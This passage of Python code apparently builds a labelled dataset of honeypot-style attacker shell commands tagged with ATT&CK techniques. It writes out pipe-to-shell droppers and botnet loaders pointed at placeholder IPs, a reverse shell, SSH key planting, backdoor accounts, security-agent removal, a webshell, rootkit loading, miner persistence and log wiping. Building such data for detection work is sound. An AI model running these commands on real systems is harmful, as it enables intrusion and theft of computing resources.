    ch(s, 240, "export LC_ALL=C; uname -a; cat /etc/os-release | head -n 2; getconf LONG_BIT",
       ["T1082"] * 4, whole="T1082")
    ch(s, 200, "uname -a && lscpu && free -m && df -h && ps aux --sort=-%cpu | head -n 10",
       ["T1082", "T1082", "T1082", "T1082", "T1057"], whole="T1082")
    ch(s, 180, "ifconfig; netstat -tulpn; cat /etc/resolv.conf; ip route",
       ["T1016", "T1049", "T1016", "T1016"], whole="T1016")
    ch(s, 150, "cat /etc/passwd; cat /etc/group; last; lastlog",
       ["T1087.001", "T1069.001", "T1033", "T1087.001"], whole="T1087.001")
    ch(s, 140, "ls -la ~/.ssh; cat ~/.ssh/authorized_keys; cat ~/.ssh/known_hosts",
       ["T1083", "T1098.004", "T1018"], whole="T1083")
    ch(s, 130, "cat /etc/crontab; ls -la /etc/cron.d/; crontab -l",
       ["T1053.003", "T1053.003", "T1053.003"], whole="T1053.003")
    ch(s, 120, "docker ps -a; docker images; kubectl get pods -A",
       ["T1613", "T1613", "T1613"], whole="T1613")
    one(s, 110, "T1613", "docker ps", "docker info", "kubectl get nodes", "crictl ps")
    ch(s, 95, "curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json", ["T1613"])
    ch(s, 100, "sudo -l", ["T1548.003"])
    one(s, 90, "T1033", "echo $USER", "logname")

    # --- Password change and key planting right after login ------------------------------------------
    s = "key-persistence"
    passwords = ["5sVq8nR2mXtL", "Xq7mP2vRt9Lk", "hK4wz9TqB1aE", "QaZ8xsw2Ed3c", "u7Yh3nL0pWq2", "M9fT2kVz8RcX",
                 "rT3e8Lk2PqWs", "Pa55w0rdRoot!", "1qaz2wsx3edc4", "Zx9Lm3Qw7Ty1", "B7n2Kq9wLz4V", "Fg6Hj8Kl2Mn0"]
    weights = [2300, 1100, 640, 410, 300, 210, 150, 90, 60, 40, 25, 12]
    for pw, w in zip(passwords, weights):
        ch(s, w, f'echo "root:{pw}"|chpasswd|bash', [("T1098", ["T1098", "T1098", "T1098"])])
    ch(s, 260, 'echo -e "Zx9Lm3Qw7Ty1\\nZx9Lm3Qw7Ty1" | passwd', ["T1098"])
    ch(s, 180, 'echo "root:Pa55w0rdRoot!" | chpasswd', ["T1098"])
    one(s, 120, "T1098", "passwd", "passwd root")
    keys = [(f.rsa_key("rsa-key-20230412"), 2200), (f.rsa_key(""), 900), (f.rsa_key("root@kali"), 420),
            (f.ed25519_key("admin@backup"), 310), (f.rsa_key("xm"), 140), (f.ed25519_key(""), 75)]
    ch(s, 2600, "cd ~; chattr -ia .ssh; lockr -ia .ssh", ["T1098.004", "T1222.002", "T1222.002"],
       whole="T1222.002")
    for key, w in keys[:2]:
        ch(s, w, f'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{key}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
           ["T1098.004"] * 6, whole="T1098.004")
    for key, w in keys[2:4]:
        ch(s, w, f'mkdir -p ~/.ssh; echo "{key}" >> ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys; chmod 700 ~/.ssh',
           ["T1098.004"] * 4, whole="T1098.004")
    for key, w in keys[4:]:
        ch(s, w, f"echo '{key}' > /root/.ssh/authorized_keys && chattr +i /root/.ssh/authorized_keys",
           ["T1098.004", "T1222.002"], whole="T1098.004")
    ch(s, 160, "chmod 600 ~/.ssh/authorized_keys", ["T1098.004"])
    ch(s, 140, "cat ~/.ssh/authorized_keys", ["T1098.004"])
    ch(s, 90, "chattr -i ~/.ssh/authorized_keys; rm -f ~/.ssh/authorized_keys", ["T1222.002", "T1098.004"],
       whole="T1098.004")
    ch(s, 120, "sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config", ["T1556"])
    ch(s, 110, "sed -i 's/PasswordAuthentication no/PasswordAuthentication yes/g' /etc/ssh/sshd_config",
       ["T1556"])
    one(s, 100, "T1556", "systemctl restart sshd", "service ssh restart")
    ch(s, 70, "echo 'AuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2' >> /etc/ssh/sshd_config",
       ["T1098.004"])

    # --- Accounts created for persistence ---------------------------------------------------------------
    s = "account-persistence"
    ch(s, 240, "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm", ["T1136.001"])
    ch(s, 210, 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm && echo "sysadm:Adm1n#2024" | chpasswd',
       ["T1136.001", "T1098"], whole="T1136.001")
    ch(s, 150, "useradd -m -s /bin/bash backup1; usermod -aG sudo backup1; echo 'backup1:B4ckup!x' | chpasswd",
       ["T1136.001", "T1098.007", "T1098"], whole="T1136.001")
    ch(s, 90, "adduser --disabled-password --gecos '' mysqld", ["T1136.001"])
    ch(s, 85, "useradd -r -s /bin/bash -d /var/lib/.sys system-helper", ["T1136.001"])
    ch(s, 80, "usermod -aG wheel deploy", ["T1098.007"])
    ch(s, 75, "echo 'backup1 ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", ["T1548.003"])
    ch(s, 60, 'echo "sysadm:x:0:0::/root:/bin/bash" >> /etc/passwd', ["T1136.001"])
    ch(s, 45, "echo 'sysadm ALL=(ALL:ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-cloud-helper", ["T1548.003"])
    ch(s, 40, "sed -i '/sysadm/d' /etc/passwd /etc/shadow", ["T1070.009"])
    one(s, 30, "T1136.001", "useradd -m admin2", "adduser support")

    # --- Gafgyt/Mirai-style loaders typed into SSH/telnet shells ---------------------------------------
    s = "gafgyt-loader"
    loaders = [("203.0.113.7", "bins.sh", "tftp1.sh", "tftp2.sh", 1500),
               ("198.51.100.73", "8UsA.sh", "tftp1.sh", "tftp2.sh", 700),
               ("192.0.2.155", "sensi.sh", "sensi1.sh", "sensi2.sh", 380),
               ("203.0.113.61", "jaws.sh", "jt1.sh", "jt2.sh", 150)]
    for ip, a, b, cc, w in loaders:
        line = (f"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://{ip}/{a}; chmod 777 {a}; "
                f"sh {a}; tftp {ip} -c get {b}; chmod 777 {b}; sh {b}; tftp -r {cc} -g {ip}; chmod 777 {cc}; "
                f"sh {cc}; rm -rf {a} {b} {cc}; rm -rf *")
        ch(s, w, line, ["T1059.004"] * 5 + ["T1105", "T1222.002", "T1059.004", "T1105", "T1222.002",
                                             "T1059.004", "T1105", "T1222.002", "T1059.004", "T1070.004",
                                             "T1070.004"], whole="T1105")
    ch(s, 240, "cd /tmp; wget http://203.0.113.7/bins.sh || curl -O http://203.0.113.7/bins.sh; chmod +x bins.sh; ./bins.sh",
       ["T1059.004", "T1105", "T1105", "T1222.002", "T1059.004"], whole="T1105")
    ch(s, 130, "cd /tmp; busybox wget http://198.51.100.73/8UsA.sh; sh 8UsA.sh; rm -f 8UsA.sh",
       ["T1059.004", "T1105", "T1059.004", "T1070.004"], whole="T1105")
    one(s, 160, "T1059.004", "sh bins.sh", "./bins.sh", "bash 8UsA.sh")
    ch(s, 90, "wget http://192.0.2.155/sensi.sh -O- | sh", [("T1105", ["T1105", "T1059.004"])])

    s = "mirai-style"
    bb = ["KZNPQ", "ECCHI", "LOLIF", "OWARI", "MIORI"]
    one(s, 1300, "T1059.008", "enable", "system", "shell")
    one(s, 1300, "T1059.004", "sh")
    one(s, 500, "T1059.008", "linuxshell")
    for tag, w in zip(bb, [1200, 800, 300, 160, 90]):
        ch(s, w, f"/bin/busybox {tag}", ["T1082"])
        ch(s, w, f"cat /proc/mounts; /bin/busybox {tag}", ["T1082", "T1082"], whole="T1082")
    ch(s, 700, "/bin/busybox cat /proc/mounts", ["T1082"])
    ch(s, 650, "/bin/busybox ps; /bin/busybox KZNPQ", ["T1057", "T1082"], whole="T1057")
    ch(s, 640, "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon",
       ["T1083", "T1083", "T1070.004"], whole="T1083")
    ch(s, 600, "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon",
       ["T1083", "T1083", "T1070.004"], whole="T1083")
    ch(s, 580, "cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox KZNPQ",
       ["T1105", "T1105", "T1105", "T1222.002", "T1082"], whole="T1105")
    ch(s, 560, "/bin/busybox dd bs=52 count=1 if=/bin/echo || /bin/busybox cat /bin/echo; /bin/busybox KZNPQ",
       ["T1082", "T1082", "T1082"], whole="T1082")
    ch(s, 400, "/bin/busybox cat /bin/echo", ["T1082"])
    archs = [("arm", 420), ("arm5", 160), ("arm6", 150), ("arm7", 520), ("m68k", 20), ("mips", 610),
             ("mpsl", 480), ("ppc", 40), ("sh4", 25), ("spc", 15), ("x86", 300), ("x86_64", 260)]
    for arch, w in archs:
        ch(s, w, f"/bin/busybox wget http://203.0.113.61:80/bins/mirai.{arch} -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox KZNPQ",
           ["T1105", "T1222.002", "T1082"], whole="T1105")
        ch(s, max(1, w // 4), f"/bin/busybox tftp -g -l dvrHelper -r mirai.{arch} 203.0.113.61", ["T1105"])
        ch(s, w, f"./dvrHelper telnet.{arch}", ["T1059.004"])
    elf = bytes([0x7f, 0x45, 0x4c, 0x46, 0x01, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
                 0x02, 0x00, 0x28, 0x00, 0x01, 0x00, 0x00, 0x00])
    for i, chunk in enumerate([elf, elf[:12] + bytes(range(0x30, 0x3c)), bytes(range(0x40, 0x58))]):
        op = ">" if i == 0 else ">>"
        ch(s, 300 - 80 * i, f"/bin/busybox echo -ne '{hex_escaped(chunk)}' {op} .d; /bin/busybox KZNPQ",
           ["T1105", "T1082"], whole="T1105")
    ch(s, 280, "./.d; ./dvrHelper telnet.loader", ["T1059.004", "T1059.004"], whole="T1059.004")
    ch(s, 260, "rm -rf /tmp/* /var/run/* /var/tmp/*; /bin/busybox KZNPQ", ["T1070.004", "T1082"],
       whole="T1070.004")
    ch(s, 180, "/bin/busybox kill -9 $(pidof telnetd)", ["T1489"])
    ch(s, 90, "/bin/busybox iptables -A INPUT -p tcp --dport 23 -j DROP", ["T1686"])

    # --- Cryptominer droppers -----------------------------------------------------------------------
    s = "miner-dropper"
    ch(s, 1250, "curl -s http://198.51.100.14/k.sh | bash", [("T1105", ["T1105", "T1059.004"])])
    ch(s, 900, "(curl -fsSL http://203.0.113.45/cr.sh || wget -q -O- http://203.0.113.45/cr.sh) | sh",
       [("T1105", ["T1105", "T1059.004"])])
    ch(s, 700, "wget -q -O - http://203.0.113.45/cr.sh | sh > /dev/null 2>&1", [("T1105", ["T1105", "T1059.004"])])
    ch(s, 520, "curl -fsSL http://198.51.100.14/ldr.sh | sh", [("T1105", ["T1105", "T1059.004"])])
    ch(s, 260, 'sh -c "$(curl -fsSL http://203.0.113.45/init.sh)"', ["T1105"])
    ch(s, 210, "wget -qO- http://xmr.update-cdn.example/i.sh | bash -s", [("T1105", ["T1105", "T1059.004"])])
    ch(s, 190, "curl http://203.0.113.45/cr.sh -o /tmp/cr.sh; bash /tmp/cr.sh",
       ["T1105", "T1059.004"], whole="T1105")
    ch(s, 170, "cd /dev/shm; wget http://198.51.100.14/x -O .x; chmod +x .x; ./.x",
       ["T1059.004", "T1105", "T1222.002", "T1059.004"], whole="T1105")
    ch(s, 160, "cd /var/tmp; curl -O http://203.0.113.45/xmrig.tar.gz; tar xzf xmrig.tar.gz; cd xmrig-6.21.0; chmod +x xmrig",
       ["T1059.004", "T1105", "T1140", "T1059.004", "T1222.002"], whole="T1105")
    ch(s, 120, "wget https://github.example/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz",
       ["T1105"])
    one(s, 150, "T1140", "tar xzf xmrig.tar.gz", "tar -xvf kit.tar", "unzip -o m.zip")
    ch(s, 140, "python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.7/p.py').read())\"",
       ["T1059.006"])
    ch(s, 120, "python -c 'import urllib;exec(urllib.urlopen(\"http://203.0.113.7/p.py\").read())'", ["T1059.006"])
    one(s, 300, "T1222.002", "chmod +x xmrig", "chmod 777 x", "chmod +x /tmp/.x", "chmod 755 kswapd0",
        "chmod +x *", "chmod u+x run")
    wallets = [f.wallet() for _ in range(5)]
    for i, (wal, w) in enumerate(zip(wallets, [950, 420, 210, 90, 40])):
        pool = ["pool.xmr.example:3333", "stratum+tcp://xmr.pool-eu.example:443", "mine.pool.example:80",
                "stratum+ssl://gulf.pool.example:10128", "pool.supportxmr.example:5555"][i]
        ch(s, w, f"nohup ./xmrig -o {pool} -u {wal} -p x -k --donate-level 1 >/dev/null 2>&1 &", ["T1496.001"])
    ch(s, 380, f"./xmrig -o pool.xmr.example:3333 -u {wallets[0]} -p w01 --background", ["T1496.001"])
    ch(s, 300, "./xmrig -c config.json", ["T1496.001"])
    ch(s, 260, "screen -dmS miner ./xmrig -c config.json", ["T1496.001"])
    ch(s, 220, "nohup /usr/bin/kswapd0 -c /etc/kswapd0.json > /dev/null 2>&1 &", ["T1496.001"])
    ch(s, 200, "./kdevtmpfsi &", ["T1496.001"])
    ch(s, 170, f"./.x/cpuminer -a cryptonight -o stratum+tcp://mine.pool.example:80 -u {wallets[1]} -t $(nproc)",
       ["T1496.001"])
    ch(s, 140, "tmux new -d -s upd './sysupdate -c config.json'", ["T1496.001"])
    ch(s, 130, "sysctl -w vm.nr_hugepages=$(nproc)", ["T1496.001"])
    ch(s, 120, "echo 'vm.nr_hugepages=1280' >> /etc/sysctl.conf; sysctl -p", ["T1496.001", "T1496.001"],
       whole="T1496.001")
    ch(s, 80, "modprobe msr; wrmsr -a 0x1a4 0xf", ["T1496.001", "T1496.001"], whole="T1496.001")
    ch(s, 70, "echo 0 > /proc/sys/kernel/nmi_watchdog", ["T1496.001"])
    ch(s, 240, "cd /tmp; wget http://203.0.113.45/xmrig.tar.gz; tar xzf xmrig.tar.gz; cd xmrig-6.21.0; ./xmrig -o pool.xmr.example:3333 -u "
       + wallets[2] + " -p x --background",
       ["T1059.004", "T1105", "T1140", "T1059.004", "T1496.001"], whole="T1496.001")
    ch(s, 190, "mkdir -p /tmp/.ICE-unix/.x; cd /tmp/.ICE-unix/.x; wget -q http://198.51.100.14/kswapd0; chmod +x kswapd0; nohup ./kswapd0 >/dev/null 2>&1 &",
       ["T1564.001", "T1059.004", "T1105", "T1222.002", "T1496.001"], whole="T1496.001")
    one(s, 160, "T1564.001", "mkdir /dev/shm/.x", "mkdir -p /var/tmp/.  /", "mkdir /tmp/.X25-unix",
        "mkdir -p ~/.config/.sys")
    ch(s, 140, "mv xmrig /usr/bin/kswapd0", ["T1036.005"])
    ch(s, 120, "cp -f /tmp/.x/xmrig /usr/sbin/sshd-helper && chmod +x /usr/sbin/sshd-helper",
       ["T1036.005", "T1222.002"], whole="T1036.005")
    ch(s, 90, "mv /tmp/x /usr/lib/systemd/systemd-update-daemon", ["T1036.005"])
    ch(s, 80, "exec -a '[kworker/0:1]' ./kswapd0", ["T1036.004"])
    ch(s, 80, "touch -r /bin/ls /usr/bin/kswapd0", ["T1070.006"])
    ch(s, 60, "touch -d '2019-03-12 08:14' /etc/cron.d/sysupdate", ["T1070.006"])
    ch(s, 130, "docker run -d --restart=always --name xmr --cpus=2 minerbox/xmrig:latest -o pool.xmr.example:3333 -u "
       + wallets[3], ["T1496.001"])
    ch(s, 90, "docker run -d --restart always -e EMAIL=mn@mail.example bandshare/cli start", ["T1496.002"])
    ch(s, 75, "nohup ./bandshare -email mn@mail.example -password Qw12Er34 >/dev/null 2>&1 &", ["T1496.002"])
    one(s, 60, "T1071.001", "curl -s http://203.0.113.45/t.php?id=$(hostname)",
        "wget -q -O /dev/null http://203.0.113.45/ping?u=$(whoami)")

    # --- Killing competitors and security agents --------------------------------------------------------
    s = "competitor-kill"
    ch(s, 520, "ps aux | grep -v grep | grep -iE 'xmrig|kinsing|kdevtmpfsi' | awk '{print $2}' | xargs kill -9",
       [("T1489", ["T1057", "T1057", "T1057", "T1057", "T1489"])])
    ch(s, 480, "pkill -f xmrig; pkill -f kdevtmpfsi; pkill -f kinsing; killall -9 minerd",
       ["T1489"] * 4, whole="T1489")
    ch(s, 330, "ps aux | grep -i miner", ["T1057"])
    ch(s, 300, "ps aux | grep -v grep | grep ':3333' | awk '{print $2}' | xargs -I % kill -9 %",
       [("T1489", ["T1057", "T1057", "T1057", "T1057", "T1489"])])
    ch(s, 260, "netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %",
       [("T1489", ["T1049", "T1049", "T1049", "T1049", "T1489"])])
    ch(s, 210, "kill -9 $(pidof kswapd0)", ["T1489"])
    one(s, 200, "T1489", "pkill -9 -f sysupdate", "killall -9 xmr", "pkill -f .ICE-unix",
        "kill -9 $(pgrep -f cryptonight)")
    ch(s, 180, "crontab -r", ["T1070.009"])
    ch(s, 150, "rm -rf /tmp/.xm* /var/tmp/.x* /tmp/kdevtmpfsi /tmp/kinsing", ["T1070.004"])
    ch(s, 120, "chattr -i /etc/ld.so.preload; rm -f /etc/ld.so.preload", ["T1222.002", "T1070.004"],
       whole="T1222.002")
    ch(s, 110, "iptables -A OUTPUT -p tcp --dport 3333 -j DROP", ["T1686"])
    ch(s, 100, "iptables -A OUTPUT -p tcp --dport 5555 -j DROP; iptables -A OUTPUT -p tcp --dport 7777 -j DROP",
       ["T1686", "T1686"], whole="T1686")
    ch(s, 90, "docker ps | grep -iE 'xmr|pocosow|gakeaws' | awk '{print $1}' | xargs -I % docker kill %",
       [("T1489", ["T1613", "T1613", "T1613", "T1489"])])

    s = "cloud-agent-removal"
    ch(s, 260, "systemctl stop aliyun.service; systemctl disable aliyun.service", ["T1685", "T1685"],
       whole="T1685")
    ch(s, 200, "curl -fsSL http://uninstall.agent.example/uninstall.sh | bash", [("T1685", ["T1685", "T1685"])])
    one(s, 180, "T1685", "/usr/local/qcloud/stargate/admin/uninstall.sh", "/usr/local/qcloud/YunJing/uninst.sh",
        "pkill -9 -f 'AliYunDun|aegis'", "systemctl stop falcon-sensor", "systemctl disable --now wazuh-agent",
        "service apparmor stop", "systemctl stop osqueryd")
    ch(s, 230, "setenforce 0", ["T1685"])
    ch(s, 150, "echo SELINUX=disabled > /etc/selinux/config", ["T1685"])
    ch(s, 140, "setenforce 0 2>/dev/null; echo SELINUX=disabled > /etc/selinux/config 2>/dev/null",
       ["T1685", "T1685"], whole="T1685")
    ch(s, 120, "rm -rf /usr/local/aegis; rm -rf /usr/local/qcloud", ["T1685", "T1685"], whole="T1685")
    ch(s, 300, "ufw disable", ["T1686"])
    ch(s, 280, "iptables -F", ["T1686"])
    ch(s, 250, "iptables -F; iptables -X; iptables -P INPUT ACCEPT", ["T1686"] * 3, whole="T1686")
    one(s, 170, "T1686", "systemctl stop firewalld", "systemctl disable firewalld", "service iptables stop",
        "iptables -P OUTPUT ACCEPT", "nft flush ruleset")
    ch(s, 90, "iptables -I INPUT -s 203.0.113.0/24 -j ACCEPT", ["T1686"])
    ch(s, 130, "systemctl stop auditd", ["T1685.004"])
    one(s, 90, "T1685.004", "service auditd stop", "auditctl -e 0", "auditctl -D")
    ch(s, 60, "systemctl stop rsyslog; systemctl disable rsyslog", ["T1685.004", "T1685.004"],
       whole="T1685.004")
    ch(s, 60, "echo 0 > /proc/sys/kernel/yama/ptrace_scope", ["T1685"])

    # --- Persistence beyond keys and accounts ------------------------------------------------------------
    s = "cron-persistence"
    ch(s, 620, '(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://203.0.113.45/cr.sh | sh") | crontab -',
       [("T1053.003", ["T1053.003", "T1053.003"])])
    ch(s, 300, '(crontab -l ; echo "@reboot /usr/bin/kswapd0 -c /etc/kswapd0.json") | crontab -',
       [("T1053.003", ["T1053.003", "T1053.003"])])
    ch(s, 280, 'echo "*/10 * * * * root wget -q -O- http://203.0.113.45/cr.sh | sh" >> /etc/crontab',
       ["T1053.003"])
    ch(s, 230, 'echo "@reboot /tmp/.ICE-unix/.x/kswapd0" > /var/spool/cron/root', ["T1053.003"])
    ch(s, 200, 'echo "* * * * * /dev/shm/.x >/dev/null 2>&1" > /var/spool/cron/crontabs/root', ["T1053.003"])
    ch(s, 170, "crontab /tmp/.cron; rm -f /tmp/.cron", ["T1053.003", "T1070.004"], whole="T1053.003")
    ch(s, 150, "echo '*/30 * * * * root /usr/sbin/sshd-helper' > /etc/cron.d/sysupdate", ["T1053.003"])
    ch(s, 80, "crontab -l | grep -v kswapd0 | crontab -", [("T1070.009", ["T1053.003", "T1070.009", "T1070.009"])])
    one(s, 90, "T1053.003", "crontab -e", "cat /var/spool/cron/root", "ls -la /var/spool/cron/crontabs")
    ch(s, 50, "at now + 1 minute -f /tmp/.x/run.sh", ["T1053.002"])
    ch(s, 45, "systemd-run --on-calendar=hourly /usr/sbin/sshd-helper", ["T1053.006"])

    s = "service-persistence"
    unit = ("[Unit]\\nDescription=System Update Daemon\\n[Service]\\nExecStart=/usr/bin/sysupdate\\nRestart=always\\n"
            "[Install]\\nWantedBy=multi-user.target")
    ch(s, 160, f'echo -e "{unit}" > /lib/systemd/system/sysupdate.service', ["T1543.002"])
    ch(s, 150, "systemctl daemon-reload; systemctl enable sysupdate.service; systemctl start sysupdate.service",
       ["T1543.002", "T1543.002", "T1569.003"], whole="T1543.002")
    one(s, 120, "T1543.002", "systemctl enable sysupdate", "systemctl daemon-reload",
        "cp /tmp/.x/dbus.service /etc/systemd/system/dbus-org.service")
    one(s, 110, "T1569.003", "systemctl start sysupdate", "systemctl restart dbus-org.service",
        "service sysupdate start")
    ch(s, 140, 'echo "/tmp/.x/run &" >> /etc/rc.local; chmod +x /etc/rc.local', ["T1037.004", "T1037.004"],
       whole="T1037.004")
    ch(s, 80, "ln -s /usr/bin/sysupdate /etc/rc3.d/S99sysupdate", ["T1037.004"])
    ch(s, 130, 'echo "nohup /tmp/.x/run >/dev/null 2>&1 &" >> ~/.bashrc', ["T1546.004"])
    ch(s, 80, "echo 'alias ls=\"ls --hide=.x\"' >> /root/.bashrc", ["T1546.004"])
    ch(s, 60, "echo '/usr/sbin/sshd-helper &' >> /etc/profile", ["T1546.004"])
    ch(s, 110, "echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload", ["T1574.006"])
    ch(s, 100, "gcc -Wall -fPIC -shared -o libprocesshider.so processhider.c -ldl", ["T1027.004"])
    ch(s, 90, "mv libprocesshider.so /usr/local/lib/ && echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload",
       ["T1574.006", "T1574.006"], whole="T1574.006")
    ch(s, 70, "gcc -o .x x.c -static; ./.x", ["T1027.004", "T1059.004"], whole="T1027.004")
    ch(s, 60, "gcc pwn.c -o pwn", ["T1027.004"])
    ch(s, 75, "insmod diamorphine.ko", ["T1014"])
    ch(s, 55, "make; insmod diamorphine.ko; kill -63 0", ["T1027.004", "T1014", "T1014"], whole="T1014")
    ch(s, 45, "echo diamorphine >> /etc/modules", ["T1547.006"])
    ch(s, 40, "cp diamorphine.ko /lib/modules/$(uname -r)/kernel/drivers/ && depmod -a",
       ["T1547.006", "T1547.006"], whole="T1547.006")
    ch(s, 50, "cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so", ["T1556.003"])
    ch(s, 40, "echo 'auth sufficient pam_permit.so' >> /etc/pam.d/sshd", ["T1556.003"])
    ch(s, 45, "echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/wp-content/uploads/.s.php", ["T1505.003"])
    ch(s, 40, "cp /tmp/b.php /var/www/html/images/thumb.php; chown www-data:www-data /var/www/html/images/thumb.php",
       ["T1505.003", "T1505.003"], whole="T1505.003")
    ch(s, 70, "chattr +i /usr/bin/kswapd0 /etc/cron.d/sysupdate", ["T1222.002"])
    one(s, 60, "T1222.002", "chattr +ia /etc/passwd /etc/shadow", "chattr -ia /etc/passwd /etc/shadow",
        "chown root:root /tmp/.x/run")

    # --- Defence evasion: history and logs --------------------------------------------------------------
    s = "history-wipe"
    ch(s, 2100, "history -c", ["T1070.003"])
    ch(s, 900, "history -c && rm -f ~/.bash_history", ["T1070.003", "T1070.003"], whole="T1070.003")
    one(s, 600, "T1070.003", "rm -rf ~/.bash_history", "rm -f /root/.bash_history")
    ch(s, 350, "cat /dev/null > ~/.bash_history", ["T1070.003"])
    ch(s, 300, "echo > ~/.bash_history; history -c", ["T1070.003", "T1070.003"], whole="T1070.003")
    ch(s, 140, "history -w; history -c", ["T1070.003", "T1070.003"], whole="T1070.003")
    ch(s, 120, "shred -u ~/.bash_history", ["T1070.003"])
    ch(s, 80, "history -d $(history | tail -n 5 | head -n 1 | awk '{print $1}')", ["T1070.003"])
    one(s, 1200, "T1690", "unset HISTFILE")
    one(s, 700, "T1690", "export HISTFILE=/dev/null")
    one(s, 400, "T1690", "export HISTSIZE=0", "HISTFILE=/dev/null", "set +o history")
    ch(s, 350, "unset HISTFILE HISTSAVE HISTZONE HISTORY HISTLOG WATCH", ["T1690"])
    ch(s, 300, "ln -sf /dev/null ~/.bash_history", ["T1690"])
    ch(s, 250, "export HISTFILE=/dev/null; export HISTSIZE=0; export HISTFILESIZE=0",
       ["T1690"] * 3, whole="T1690")
    ch(s, 220, "unset HISTFILE; export HISTFILE=/dev/null; history -c",
       ["T1690", "T1690", "T1070.003"], whole="T1690")
    ch(s, 60, "export HISTCONTROL=ignorespace", ["T1690"])

    s = "log-wipe"
    ch(s, 500, "rm -rf /var/log/*", ["T1685.006"])
    one(s, 330, "T1685.006", "echo > /var/log/wtmp", "echo > /var/log/btmp", "echo > /var/log/lastlog")
    one(s, 250, "T1685.006", "cat /dev/null > /var/log/secure", "cat /dev/null > /var/log/auth.log",
        "> /var/log/syslog", "rm -rf /var/log/syslog*", "rm -f /var/log/messages")
    ch(s, 200, "echo > /var/log/wtmp; echo > /var/log/btmp; echo > /var/log/lastlog; rm -rf /var/log/auth.log*",
       ["T1685.006"] * 4, whole="T1685.006")
    ch(s, 160, "find /var/log -type f -exec truncate -s 0 {} \\;", ["T1685.006"])
    ch(s, 150, "journalctl --vacuum-time=1s", ["T1685.006"])
    ch(s, 120, "sed -i '/203.0.113.9/d' /var/log/auth.log", ["T1685.006"])
    ch(s, 110, "grep -v 198.51.100.201 /var/log/secure > /tmp/s; mv /tmp/s /var/log/secure",
       ["T1685.006", "T1685.006"], whole="T1685.006")
    ch(s, 90, "utmpdump /var/log/wtmp | grep -v 203.0.113.9 > /tmp/w; utmpdump -r < /tmp/w > /var/log/wtmp",
       [("T1685.006", ["T1685.006", "T1685.006"]), "T1685.006"], whole="T1685.006")
    ch(s, 80, "shred -zu /var/log/lastlog", ["T1685.006"])
    ch(s, 75, "rm -rf /var/log/nginx/access.log* /var/log/apache2/access.log*", ["T1685.006"])
    one(s, 400, "T1070.004", "rm -rf bins.sh", "rm -f x.sh", "rm -rf /tmp/*.sh", "rm -f $0", "rm -rf /tmp/.x")
    one(s, 160, "T1070.004", "shred -zu /tmp/kit.tar", "rm -rf xmrig-6.21.0 xmrig.tar.gz", "unlink /tmp/.s")
    ch(s, 150, "rm -rf /tmp/* /var/tmp/*", ["T1070.004"])

    # --- Decoding / obfuscated execution ----------------------------------------------------------------
    s = "encoded-exec"
    plain = ["cd /tmp && wget -q http://203.0.113.7/x.sh && sh x.sh", "curl -s http://198.51.100.14/k.sh | bash",
             "(curl -fsSL http://203.0.113.45/cr.sh||wget -q -O- http://203.0.113.45/cr.sh)|sh",
             "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "uname -a;nproc;free -m;id"]
    for p, w in zip(plain, [420, 380, 300, 180, 120]):
        ch(s, w, f"echo {b64(p)} | base64 -d | bash", [("T1140", ["T1140", "T1140", "T1059.004"])])
    ch(s, 260, f"echo '{b64(plain[1])}' | base64 --decode | sh", [("T1140", ["T1140", "T1140", "T1059.004"])])
    ch(s, 200, f"echo {b64(plain[0])}|base64 -d|bash", [("T1140", ["T1140", "T1140", "T1059.004"])])
    ch(s, 150, f'bash -c "$(echo {b64(plain[2])} | base64 -d)"', ["T1140"])
    ch(s, 140, f"{{echo,{b64(plain[3])}}}|{{base64,-d}}|{{bash,-i}}",
       [("T1140", ["T1140", "T1140", "T1059.004"])])
    ch(s, 120, f"echo {b64('#!/bin/sh' + chr(10) + 'exec /tmp/.x/kswapd0')} | base64 -d > /tmp/.r; chmod +x /tmp/.r; /tmp/.r",
       [("T1140", ["T1140", "T1140"]), "T1222.002", "T1059.004"], whole="T1140")
    one(s, 300, "T1140", "base64 -d", "base64 --decode")
    ch(s, 90, "openssl enc -d -aes-256-cbc -in k.enc -out k -k Xy9Kd2", ["T1140"])
    ch(s, 80, "xxd -r -p payload.hex > /tmp/.p", ["T1140"])
    ch(s, 60, "printf '\\x75\\x6e\\x61\\x6d\\x65\\x20\\x2d\\x61' | sh", [("T1027.010", ["T1027.010", "T1059.004"])])
    ch(s, 55, "eval \"$(echo 'a- emanu' | rev)\"", ["T1027.010"])
    ch(s, 50, "gzip -d -c /tmp/.p.gz | sh", [("T1140", ["T1140", "T1059.004"])])

    # --- Interactive shells and execution ---------------------------------------------------------------
    s = "shell-exec"
    ch(s, 320, "python -c 'import pty;pty.spawn(\"/bin/bash\")'", ["T1059.006"])
    ch(s, 260, "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", ["T1059.006"])
    ch(s, 200, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", ["T1059.004"])
